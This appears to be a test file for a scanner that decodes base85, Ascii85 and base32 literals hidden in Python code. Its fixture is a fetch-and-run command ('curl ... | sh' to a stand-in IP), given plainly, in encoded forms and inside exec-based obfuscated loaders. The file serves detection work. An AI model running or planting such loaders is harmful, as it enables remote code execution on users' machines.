// Python decoding helpers read as the texts their calls with literals return: the decoders against Python's own
// output, the helper forms read, bodies that do anything else left alone, and broken or large input.
import { describe, expect, it } from 'vitest';
import { a85decode, b85decode, pythonHelperTexts } from './python-helpers.js';

// Python 3: base64.b85encode / a85encode / b32encode of SRC, and of zlib.compress(SRC) turned round
const SRC = "import os; os.system('curl http://203.0.113.9/x | sh')";
const B85 = 'X>D+Ca&#bXb2}h!b1rjvb97~GC?{iea%>=IbaZe!FE27MGcGVLF)=ePIWKr1d?0gZCn*';
const A85 = 'Bl.g-Ec`FBF#tL_F"VNZF*(u1-mrMIEblk3FEDI_0/#(71G1@60ekI:3A5V"Hm!KD-Rf';
const B85_ZLIB_TURNED = 'p{Cr{aNT048wK&gx!lxJdorwJ{ek71<+8}D9TOFjN!Mx()W+nTLpoH%9Pc420aGOQ_nyyE3}~$c';
const B32 = 'NFWXA33SOQQG64Z3EBXXGLTTPFZXIZLNFATWG5LSNQQGQ5DUOA5C6LZSGAZS4MBOGEYTGLRZF54CA7BAONUCOKI=';

const texts = (code: string): string[] => pythonHelperTexts(code).map((d) => d.text);

describe('base85 and Ascii85 as Python decodes them', () => {
  it('decodes what Python encoded, short last groups and zero groups included', () => {
    expect(b85decode(B85)?.toString()).toBe(SRC);
    expect(a85decode(A85)?.toString()).toBe(SRC);
    expect(b85decode('VPa!sWoBm')?.toString()).toBe('abcdefg');
    expect(a85decode('z@:E^')?.toString('latin1')).toBe('\0\0\0\0abc');
  });

  it('answers characters outside the alphabet and groups over 32 bits with null', () => {
    expect(b85decode('abc"d')).toBeNull();
    expect(b85decode('|||||')).toBeNull();
    expect(a85decode('abc\x7fd')).toBeNull();
    expect(a85decode('uuuuu')).toBeNull();
  });
});

describe('Python decoding helpers', () => {
  it('reads a lambda of imported decoders over its parameter turned round, called on a bytes literal', () => {
    const code = `_ = lambda __: __import__("zlib").decompress(__import__("base64").b85decode(__[::-1]))\nexec(_(b"${B85_ZLIB_TURNED}"))\n`;
    expect(texts(code)).toEqual([SRC]);
  });

  it('reads a function returning one decoder, with .decode() after it, and base32 and Ascii85 helpers', () => {
    expect(texts(`import base64\ndef d(s):\n    return base64.b85decode(s).decode()\nrun(d("${B85}"))\n`)).toEqual([SRC]);
    expect(texts(`import base64\ndef d(s): return base64.b32decode(s)\nx = d("${B32}")\n`)).toEqual([SRC]);
    expect(texts(`import base64\nd = lambda s: base64.a85decode(s)\nx = d('${A85}')\n`)).toEqual([SRC]);
  });

  it('leaves bodies that do anything else, other names, and literals that do not decode alone', () => {
    expect(texts(`f = lambda s: base64.b85decode(s) + b"x"\nf("${B85}")\n`)).toEqual([]);
    expect(texts(`f = lambda s: s[::-1]\nf("${B85}")\n`)).toEqual([]);
    expect(texts(`f = lambda s: base64.b85decode(s)\ng("${B85}")\nf(name)\n`)).toEqual([]);
    expect(texts(`f = lambda s: zlib.decompress(base64.b85decode(s))\nf("${B85}")\n`)).toEqual([]);
    expect(texts('f = lambda s: base64.b85decode(s)\nf("not base85.")\n')).toEqual([]);
  });

  it('stays bounded on many calls and on large input', () => {
    const many = `f = lambda s: base64.b85decode(s)\n${`f("${B85}")\n`.repeat(500)}`;
    expect(texts(many)).toHaveLength(50);
    expect(texts(`f = lambda s: base64.b85decode(s)\nf("${'0'.repeat(1_000_000)}")\n`)).toEqual([]);
    expect(texts('')).toEqual([]);
  });
});
